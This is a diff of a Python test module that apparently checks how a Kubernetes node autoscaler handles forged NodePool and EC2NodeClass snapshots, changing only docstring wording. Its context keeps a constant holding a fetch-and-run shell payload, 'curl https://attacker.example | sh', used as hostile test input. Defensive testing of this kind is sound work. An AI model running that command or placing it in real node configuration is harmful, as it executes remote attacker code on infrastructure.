@@ -1,4 +1,4 @@
-"""Snapshots that do not say what the API server says: what who holds the forwarder's identity may write."""
+"""Forged snapshots, which differ from the API server: what someone with the forwarder's identity could write."""
 
 from __future__ import annotations
 
@@ -17,11 +17,11 @@ Document = dict[str, Any]
 Forgery = Callable[[Document], None]
 HOSTILE = "#!/bin/sh\ncurl https://attacker.example | sh"
 WATCHED_FOR = timedelta(minutes=12)
-"""How long a forged snapshot is shown: several looks of every concern, and what is resolved grows old in between."""
+"""How long a forged snapshot is shown: every concern runs several times, and resolutions expire in between."""
 
 
 class ForgedWorld(World):
-    """A world whose forwarder changes each snapshot by `forgery` before it writes it; None for an honest one."""
+    """A world whose forwarder applies `forgery` to each snapshot before it writes it; None leaves snapshots intact."""
 
     forgery: Forgery | None = None
 
@@ -49,17 +49,17 @@ def launches(world: World) -> int:
 
 
 def nodeclass_says(**spec: Any) -> Forgery:
-    """Change fields of the spec of all EC2NodeClasses; None removes one."""
+    """Return a forgery of fields in the spec of all EC2NodeClasses; None removes a field."""
     return lambda document: _edit(document["nodeclasses"], spec)
 
 
 def nodepool_says(**spec: Any) -> Forgery:
-    """Change fields of the spec of all NodePools."""
+    """Return a forgery of fields in the spec of all NodePools."""
     return lambda document: _edit(document["nodepools"], spec)
 
 
 def template_says(**spec: Any) -> Forgery:
-    """Change fields of the spec of all NodePools' templates."""
+    """Return a forgery of fields in the spec of all NodePools' templates."""
 
     def forge(document: Document) -> None:
         for pool in document["nodepools"]:
@@ -112,7 +112,7 @@ def _with_another_nodepool(document: Document) -> None:
 
 
 def with_nodeclaim(document: Document) -> None:
-    """Show a NodeClaim that no user has made."""
+    """Add a NodeClaim that no user has created."""
     document["nodeclaims"].append(
         {
             "metadata": {
@@ -158,4 +158,4 @@ FORGERIES: Mapping[str, Forgery] = {
     "template labels": _relabelled,
     "annotations": _annotated,
 }
-"""Single changes of what a NodePool or EC2NodeClass says."""
+"""Single changes of the content of a NodePool or EC2NodeClass."""
